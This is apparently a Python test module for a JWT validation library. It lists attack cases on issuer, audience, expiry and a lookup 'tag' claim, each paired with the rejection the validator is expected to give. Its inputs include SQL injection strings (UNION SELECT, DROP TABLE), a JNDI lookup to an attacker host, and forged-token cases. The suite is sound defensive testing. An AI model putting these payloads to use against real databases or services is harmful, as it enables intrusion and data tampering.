"""E. Claims and identity: who a token speaks for, since when and until when."""

import json
from collections.abc import Iterator
from typing import Any, Final

from auth_jwt.errors import Reason
from tests.factories import HMAC_KEY, a_token
from tests.security.attacks import Attack, a_row, a_user

MALFORMED, MISSING_TAG, UNKNOWN_TAG = Reason.MALFORMED_TOKEN, Reason.MISSING_TAG, Reason.UNKNOWN_TAG
ISSUER: Final = "https://issuer.example"
LONG_AGO, FAR_AWAY = 1_000_000_000, 4_000_000_000
INJECTED: Final = "x' UNION SELECT 'admin','attacker-secret' -- "

NO_TIMES: Final[tuple[Any, ...]] = ([], [FAR_AWAY], {}, {"a": 1}, None, "abc", "", str(FAR_AWAY), True, False)
NO_NUMBERS: Final = (
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "-Infinity",
    "9" * 400,
    "-" + "9" * 20,
    "0x10",
    "01",
    "1.",
    "+1",
)


def _issuers() -> Iterator[Attack]:
    one, two = {"ISSUER": ISSUER}, {"ISSUER": f"{ISSUER},https://other.example"}
    for iss in (
        "",
        "issuer",
        "https://issuer.exampl",
        "h",
        ISSUER + "/",
        ISSUER.upper(),
        f" {ISSUER}",
        f"{ISSUER},",
        "https://issuer.example.attacker.example",
    ):
        yield Attack("CVE-2024-53861", f"iss {iss!r}", a_token(iss=iss), Reason.WRONG_ISSUER, settings=one)
    both = f"{ISSUER},https://other.example"
    yield Attack("CVE-2024-53861", "iss is the whole list", a_token(iss=both), Reason.WRONG_ISSUER, settings=two)
    for value in ([ISSUER], {"iss": ISSUER}, 1, None, True):
        yield Attack(
            "CVE-2024-53861", f"iss of type {type(value).__name__}", a_token(iss=value), _not_an_issuer(), settings=one
        )
    yield Attack("CVE-2024-53861", "iss is absent", a_token(), Reason.MISSING_CLAIM, settings=one)
    yield Attack("CVE-2024-53861", "iss is the issuer", a_token(iss=ISSUER), None, settings=one)
    yield Attack("CVE-2024-53861", "iss is one of two", a_token(iss="https://other.example"), None, settings=two)


def _not_an_issuer() -> Reason:
    return Reason.MALFORMED_CLAIM


def _audiences() -> Iterator[Attack]:
    wanted = {"AUDIENCE": "sip"}
    wrong, malformed = Reason.WRONG_AUDIENCE, Reason.MALFORMED_CLAIM
    for aud, reason in (
        ([""], wrong),
        ([], wrong),
        ("", wrong),
        ("si", wrong),
        ("sips", wrong),
        ("SIP", wrong),
        ("sip,web", wrong),
        ("sip ", wrong),
        (["web", "si"], wrong),
        (["sip", 1], malformed),
        ([None], malformed),
        ([["sip"]], malformed),
        ({"sip": True}, malformed),
        (1, malformed),
        (None, malformed),
        (True, malformed),
        ("sip", None),
        (["sip"], None),
        (["web", "sip"], None),
    ):
        yield Attack("CVE-2020-26160", f"aud {aud!r}", a_token(aud=aud), reason, settings=wanted)
    yield Attack("CVE-2020-26160", "aud is absent", a_token(), Reason.MISSING_CLAIM, settings=wanted)


def _times() -> Iterator[Attack]:
    for name in ("exp", "nbf", "iat"):
        for value in NO_TIMES:
            token = a_token(payload={"tag": "t1", name: value})
            yield Attack("PyJWT 2.15", f"{name} {value!r}", token, Reason.MALFORMED_CLAIM)
        for text in NO_NUMBERS:
            token = a_token(payload=f'{{"tag":"t1","{name}":{text}}}'.encode())
            what = text if len(text) < 30 else f"of {len(text)} digits"
            yield Attack("PyJWT 2.15", f"{name} {what}", token, MALFORMED)
        unchecked = a_token(payload={"tag": "t1", name: "abc"})
        yield Attack(
            "PyJWT 2.15", f"{name} is not looked at", unchecked, None, settings={"ENFORCE_TIME_CLAIMS": "false"}
        )
    for name, token, reason in (
        ("exp negative", a_token(exp=-1), Reason.TOKEN_EXPIRED),
        ("exp zero", a_token(exp=0), Reason.TOKEN_EXPIRED),
        ("exp -0.0", a_token(exp=-0.0), Reason.TOKEN_EXPIRED),
        ("exp as small as an integer can be", a_token(exp=-(2**63)), Reason.TOKEN_EXPIRED),
        ("exp as large as an integer can be", a_token(exp=2**63 - 1), None),
        ("exp as small as a real can be", a_token(exp=-1.7e308), Reason.TOKEN_EXPIRED),
        ("exp as large as a real can be", a_token(exp=1.7e308), None),
        ("nbf as large as a real can be", a_token(nbf=1.7e308), Reason.TOKEN_NOT_YET_VALID),
        ("nbf as small as a real can be", a_token(nbf=-1.7e308), None),
        ("iat in the future", a_token(iat=FAR_AWAY), Reason.TOKEN_NOT_YET_VALID),
        ("iat negative", a_token(iat=-1), None),
        ("exp in milliseconds", a_token(exp=LONG_AGO * 1000), None),
    ):
        yield Attack("PyJWT 2.15", name, token, reason)
    for name, token, reason in (
        ("exp in the past", a_token(exp=LONG_AGO), Reason.TOKEN_EXPIRED),
        ("exp in the past, a real", a_token(exp=LONG_AGO + 0.5), Reason.TOKEN_EXPIRED),
        ("exp in the past, nbf before it", a_token(exp=LONG_AGO, nbf=LONG_AGO - 1), Reason.TOKEN_EXPIRED),
        ("exp to come", a_token(exp=FAR_AWAY), None),
    ):
        yield Attack("APISIX#10891", name, token, reason)
    yield Attack("APISIX#10891", "exp in the past, forged", a_token(key="k" * 64, exp=LONG_AGO), Reason.BAD_SIGNATURE)
    yield Attack("Kamailio#4007", "exp absent", a_token(), None)
    required = {"REQUIRED_CLAIMS": "exp"}
    yield Attack("Kamailio#4007", "exp absent where it is required", a_token(), Reason.MISSING_CLAIM, settings=required)
    yield Attack(
        "Kamailio#4007", "exp null where it is required", a_token(exp=None), Reason.MALFORMED_CLAIM, settings=required
    )
    aged = {"MAX_TOKEN_AGE_SECONDS": "60"}
    yield Attack(
        "Kamailio#4007", "iat absent where tokens age", a_token(exp=FAR_AWAY), Reason.MISSING_CLAIM, settings=aged
    )
    yield Attack(
        "Kamailio#4007", "iat long ago where tokens age", a_token(iat=LONG_AGO), Reason.TOKEN_TOO_OLD, settings=aged
    )


ODD_TAGS: Final = (
    INJECTED,
    "t1' OR '1'='1",
    't1" OR "1"="1',
    "t1'; DROP TABLE jwt_profiles; --",
    "\\' OR 1=1 #",
    "t1#",
    "t1:",
    "t1/*",
    "t1/../t1",
    "%",
    "_1",
    "t_",
    "$tag",
    ":tag",
    "#tag",
    '{"S":"t1"}',
    "{{resolve:ssm:x}}",
    "${jndi:ldap://attacker.example}",
    "T1",
    " t1",
    "t1 ",
    "t1\n",
    "\tt1",
    "\uff54\uff11",
    "t\u00b9",
    "t1\u200b",
    "t1\u0301",
    "\u04421",
    "\u00ad" + "t1",
    "\u202et1",
    "t" * 128,
    "\U0001f600" * 128,
)


def _tags() -> Iterator[Attack]:
    for tag in ODD_TAGS:
        yield Attack(
            "CVE-2026-25554", f"tag {tag if len(tag) < 60 else tag[:4] + '...'!r}", a_token(tag=tag), UNKNOWN_TAG
        )
        row = (a_row(HMAC_KEY, corresponding_tag=tag),)
        what = f"tag {tag if len(tag) < 60 else tag[:4] + '...'!r}, which there is"
        yield Attack("CVE-2026-25554", what, a_token(tag=tag), None, row, (a_user(tag=tag),))
    for value in (1, 1.5, 0, True, None, [], ["t1"], {"S": "t1"}, ""):
        yield Attack("CVE-2026-25554", f"tag {value!r}", a_token(tag=value), MISSING_TAG)
    for size in (129, 2048, 10_000):
        yield Attack("CVE-2026-25554", f"tag of {size} characters", a_token(tag="t" * size), MISSING_TAG)
    for name, text in {"a NUL": "t1\\u0000", "a NUL in front": "\\u0000t1", "half a pair": "t1\\ud800"}.items():
        yield Attack("CVE-2026-25554", f"tag with {name}", a_token(payload=f'{{"tag":"{text}"}}'.encode()), MALFORMED)
    by_injected = a_token(key="attacker-secret", tag=INJECTED)
    yield Attack(
        "CVE-2026-25554",
        "an injected secret",
        by_injected,
        UNKNOWN_TAG,
        settings={"MIN_HMAC_KEY_BYTES": "1"},
        script=-1,
    )
    for name, payload in {
        "tag twice": b'{"tag":"t2","tag":"t1"}',
        "tag twice, the same": b'{"tag":"t1","tag":"t1"}',
        "tag twice, once escaped": b'{"tag":"t2","t\\u0061g":"t1"}',
        "another claim twice": b'{"tag":"t1","a":{"b":1,"b":1}}',
        "a list": b'[{"tag":"t1"}]',
        "text": b'"t1"',
        "null": b"null",
        "nothing but a blank": b" ",
        "a BOM": b'\xef\xbb\xbf{"tag":"t1"}',
        "no UTF-8": b'{"tag":"t1\xff"}',
        "UTF-16": json.dumps({"tag": "t1"}).encode("utf-16-le"),
        "text behind": b'{"tag":"t1"}x',
        "two objects": b'{"tag":"t1"}{"tag":"t2"}',
        "an integer of 20 digits": b'{"tag":"t1","x":18446744073709551616}',
    }.items():
        yield Attack("own tags", f"a payload with {name}", a_token(payload=payload), MALFORMED)
    yield Attack("own tags", "tag in the header alone", a_token(payload={}, header={"tag": "t1"}), MISSING_TAG)
    yield Attack("own tags", "tag deeper", a_token(payload={"claims": {"tag": "t1"}}), MISSING_TAG)
    yield Attack("own tags", "tag in another case", a_token(payload={"Tag": "t1"}), MISSING_TAG)
    yield Attack("own tags", "another tag in the header", a_token(header={"tag": "t2"}), None)
    yield Attack("own tags", "an escaped tag is the same tag", a_token(payload=b'{"t\\u0061g":"\\u00741"}'), None)
    yield Attack(
        "own tags",
        "a tag by another claim",
        a_token(payload={"tag": "t2", "sub": "t1"}),
        None,
        settings={"TAG_CLAIM": "sub"},
    )


ATTACKS: Final = (*_issuers(), *_audiences(), *_times(), *_tags())
